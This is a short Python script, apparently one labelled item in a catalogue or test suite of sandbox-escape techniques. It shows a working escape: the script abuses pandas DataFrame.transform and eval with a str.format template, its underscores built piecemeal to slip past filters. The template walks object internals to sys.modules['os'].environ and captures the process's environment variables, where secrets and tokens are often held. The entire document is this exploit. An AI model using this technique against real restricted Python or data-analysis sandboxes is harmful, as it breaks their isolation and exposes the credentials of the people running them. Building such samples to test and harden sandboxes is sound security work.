# class: format_lookup
# technique: [DataFrame.transform][0](**{'func': 'eval', ...}): the expression appends a formatted template to a list before transform rejects the result
# goal: read
import numpy as np
import pandas as pd

u = "_" * 2
template = "{0." + u + "init" + u + "." + u + "globals" + u + "[sys].modules[os].environ}"

frame = pd.DataFrame({"x": np.arange(2)})
box = []
try:
    [frame.transform][0](**{"func": "eval", "expr": "@box.append(@t.format(@o[0]))",
                       "local_dict": {"box": box, "t": template, "o": [np.vectorize]}})
except Exception:
    pass
if not box:
    raise RuntimeError("no environment")
df = pd.DataFrame({"environ": box})
